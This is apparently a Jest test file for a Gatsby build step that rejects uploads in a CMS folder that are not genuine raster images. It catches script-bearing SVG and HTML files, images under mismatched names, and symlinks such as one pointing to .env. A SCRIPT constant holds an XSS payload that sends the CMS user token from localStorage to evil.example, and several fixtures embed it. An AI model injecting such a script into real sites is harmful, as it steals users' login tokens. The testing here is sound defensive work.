/**
 * @jest-environment node
 *
 * The CMS's upload folder holds raster images only, by their bytes: the
 * check the build runs before anything else (gatsby/cms/uploads.ts, from
 * gatsby-node.ts's onPreBootstrap) passes real PNG, JPEG, WebP, AVIF and
 * GIF files (__tests__/fixtures/uploads/), and names each file that could
 * run as the site: an SVG or an HTML page with a script, an image's name on
 * a page's bytes, an image's bytes under a page's name, a link to a secret.
 */
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import type { ParentSpanPluginArgs } from 'gatsby'
import { onPreBootstrap } from '../../gatsby-node'
import { uploadProblems } from '../../gatsby/cms/uploads'
import { UPLOADS } from '../../src/lib/content/model'

const IMAGES = path.resolve('__tests__/fixtures/uploads')
const SCRIPT = '<script>fetch("https://evil.example/?" + localStorage.getItem("decap-cms-user"))</script>'

let dir: string
beforeEach(() => void (dir = fs.mkdtempSync(path.join(os.tmpdir(), 'uploads-'))))
afterEach(() => fs.rmSync(dir, { recursive: true, force: true }))

const write = (name: string, bytes: string | Buffer) => {
  fs.mkdirSync(path.dirname(path.join(dir, name)), { recursive: true })
  fs.writeFileSync(path.join(dir, name), bytes)
}
const image = (name: string) => fs.readFileSync(path.join(IMAGES, name))

test('real PNG, JPEG, WebP, AVIF and GIF images pass, in sub-folders too', () => {
  for (const name of fs.readdirSync(IMAGES)) write(`2026/${name}`, image(name))
  write('photo.JPEG', image('photo.jpg'))
  expect(fs.readdirSync(path.join(dir, '2026'))).toHaveLength(5)
  expect(uploadProblems(dir, 'static/uploads')).toEqual([])
})

test.each([
  ['logo.svg', `<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`, 'static/uploads/logo.svg: not a PNG, JPEG, WebP, AVIF or GIF image by its contents (an SVG can hold a script)'],
  ['offer.html', `<!doctype html>${SCRIPT}`, 'static/uploads/offer.html: not a PNG, JPEG, WebP, AVIF or GIF image by its contents'],
  ['photo.png', `<!doctype html>${SCRIPT}`, 'static/uploads/photo.png: not a PNG, JPEG, WebP, AVIF or GIF image by its contents'],
  ['empty.png', '', 'static/uploads/empty.png: not a PNG, JPEG, WebP, AVIF or GIF image by its contents'],
  // A real image's bytes (a page could hide in its text chunks) under a name served as a page.
  ['photo.html', image('photo.png'), 'static/uploads/photo.html: a PNG image named .html; name it .png, so it is served as an image'],
  ['photo', image('photo.gif'), 'static/uploads/photo: a GIF image named without an extension; name it .gif, so it is served as an image'],
  ['photo.webp', image('photo.jpg'), 'static/uploads/photo.webp: a JPEG image named .webp; name it .jpg, so it is served as an image'],
  ['deep/er/page.htm', `${SCRIPT}`, 'static/uploads/deep/er/page.htm: not a PNG, JPEG, WebP, AVIF or GIF image by its contents'],
])('%s is named', (name, bytes, problem) => {
  write('fine.png', image('photo.png'))
  write(name, bytes)
  expect(uploadProblems(dir, 'static/uploads')).toEqual([expect.stringContaining(problem)])
})

test('a link is refused, whatever it points to', () => {
  write('photo.png', image('photo.png'))
  fs.symlinkSync(path.join(dir, 'photo.png'), path.join(dir, 'same.png'))
  fs.symlinkSync(path.resolve('.env'), path.join(dir, 'secrets.png'))
  expect(uploadProblems(dir, 'static/uploads')).toEqual([
    'static/uploads/same.png: a link to another file; upload the image itself',
    'static/uploads/secrets.png: a link to another file; upload the image itself',
  ])
})

describe("the build's first step", () => {
  let cwd: string
  const panic = jest.fn()
  beforeEach(() => {
    cwd = process.cwd()
    panic.mockReset()
    // The build's steps read the working copy: here a copy of what they read, with an upload folder of its own.
    for (const file of ['package.json', 'content', 'node_modules']) fs.symlinkSync(path.resolve(file), path.join(dir, file))
    process.chdir(dir)
  })
  afterEach(() => process.chdir(cwd))

  const bootstrap = () => {
    const reporter = { panic, info: jest.fn(), verbose: jest.fn(), warn: jest.fn() }
    const args = { reporter, store: { getState: () => ({ program: { _: ['build'] } }) } } as unknown as ParentSpanPluginArgs
    onPreBootstrap!(args, {} as never, () => undefined)
  }

  test('stops, naming the file, on an SVG in the upload folder', () => {
    fs.mkdirSync(UPLOADS.folder, { recursive: true })
    fs.writeFileSync(path.join(UPLOADS.folder, 'logo.svg'), `<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`)
    bootstrap()
    expect(panic).toHaveBeenCalledWith(expect.stringContaining('static/uploads/logo.svg: not a PNG, JPEG, WebP, AVIF or GIF image by its contents'))
  })

  test('goes on with images only', () => {
    fs.mkdirSync(UPLOADS.folder, { recursive: true })
    fs.copyFileSync(path.join(IMAGES, 'photo.avif'), path.join(UPLOADS.folder, 'photo.avif'))
    bootstrap()
    expect(panic).not.toHaveBeenCalled()
  })
})
